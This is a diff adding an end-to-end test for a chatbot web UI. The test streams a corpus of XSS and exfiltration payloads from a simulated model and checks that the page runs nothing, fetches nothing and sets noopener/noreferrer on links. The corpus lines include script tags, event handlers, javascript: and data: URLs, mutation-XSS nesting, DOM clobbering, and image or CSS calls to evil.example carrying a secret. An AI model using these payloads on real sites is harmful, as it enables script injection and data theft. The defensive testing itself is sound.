@@ -1,0 +1,121 @@
+import { randomUUID } from 'node:crypto';
+import { type OllamaSim, startOllamaSim } from '@chatbot/ollama-sim';
+import { type System, startSystem } from '@chatbot/testkit';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launchBrowser, replyWith, send, signUp, type Visit, visit } from './support/browser.ts';
+
+/** Each would run a script or fetch something if any part of the page trusted it. */
+const corpus = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<details open ontoggle="window.hacked = 1">x</details>',
+  '<a href="javascript:window.hacked=1">click</a>',
+  '[click](javascript:window.hacked=1)',
+  '[click](JaVaScRiPt&colon;window.hacked=1)',
+  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)',
+  '[click](vbscript:msgbox)',
+  '<javascript:window.hacked=1>',
+  '![leak](https://evil.example/?q=secret)',
+  '![leak][ref]\n\n[ref]: https://evil.example/ref.png',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>@import url(https://evil.example/y.css);</style>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example/"><input name=q autofocus onfocus="window.hacked = 1"></form>',
+  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+  '```html\n<script>window.hacked = 1</script>\n```',
+  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
+  '`<img src=x onerror=window.hacked=1>`',
+  '| <img src=x onerror=window.hacked=1> | b |\n| --- | --- |\n| [x](javascript:window.hacked=1) | <script>window.hacked=1</script> |',
+  '$$\\href{javascript:window.hacked=1}{x}$$',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
+  '<a href="https://ok.example" onclick="window.hacked=1" style="position:fixed;inset:0">cover</a>',
+  'https://ok.example/"onmouseover="window.hacked=1',
+  '<div id="root">clobbered</div><form id="documentElement"></form>',
+].join('\n\n');
+
+let sim: OllamaSim;
+let system: System;
+let browser: Browser;
+
+beforeAll(async () => {
+  sim = await startOllamaSim({
+    models: {
+      'by-one:latest': { kind: 'scripted', text: corpus, codePointsPerToken: 1, ratePerSecond: 1_500 },
+      'by-seven:latest': { kind: 'scripted', text: corpus, codePointsPerToken: 7, ratePerSecond: 200 },
+    },
+  });
+  system = await startSystem({ ollamaUrl: sim.url, env: { DEFAULT_MODEL: 'by-one:latest' } });
+  browser = await launchBrowser();
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await system?.[Symbol.asyncDispose]();
+  await sim?.[Symbol.asyncDispose]();
+});
+
+/** What in the replies could act: elements that load or run something, handlers, links that are no links. */
+function findDangers(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const dangers: string[] = 'hacked' in window ? ['a script ran'] : [];
+    for (const element of document.querySelectorAll('[data-testid="message"] *')) {
+      if (
+        ['SCRIPT', 'IFRAME', 'IMG', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'META', 'BASE', 'FORM', 'INPUT'].includes(
+          element.tagName,
+        )
+      )
+        dangers.push(element.outerHTML);
+      for (const { name, value } of element.attributes) {
+        if (name.startsWith('on')) dangers.push(`${name}=${value}`);
+        if ((name === 'href' || name === 'src' || name === 'action') && !/^(https?:|mailto:|#|\/)/.test(value))
+          dangers.push(`${name}=${value}`);
+      }
+    }
+    return dangers;
+  });
+}
+
+async function expectHarmless({ page, problems, foreignRequests }: Visit) {
+  expect([await findDangers(page), problems, foreignRequests]).toEqual([[], [], []]);
+}
+
+describe('hostile model output', () => {
+  it.each(['by-one:latest', 'by-seven:latest'])(
+    'from %s runs nothing and fetches nothing: while it streams, at its end, and after a reload',
+    async (model) => {
+      const session = await visit(browser, system.url);
+      const { page } = session;
+      await signUp(page, { email: `${randomUUID()}@example.com` });
+      await page.getByRole('button', { name: /model/i }).first().click();
+      await page
+        .getByRole('menuitemradio', { name: new RegExp(model) })
+        .last()
+        .click();
+      await send(page, 'do your worst');
+      let ended = false;
+      const end = replyWith(page, 'completed')
+        .waitFor({ timeout: 60_000 })
+        .then(() => {
+          ended = true;
+        });
+      while (!ended) {
+        await expectHarmless(session);
+        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
+      }
+      await end;
+      await expectHarmless(session);
+      for (const link of await page.locator('[data-testid="message"] a').all()) {
+        expect(await link.getAttribute('rel')).toContain('noopener');
+        expect(await link.getAttribute('rel')).toContain('noreferrer');
+      }
+      await page.reload();
+      await replyWith(page, 'completed').waitFor();
+      await expectHarmless(session);
+      await session.context.close();
+    },
+  );
+});
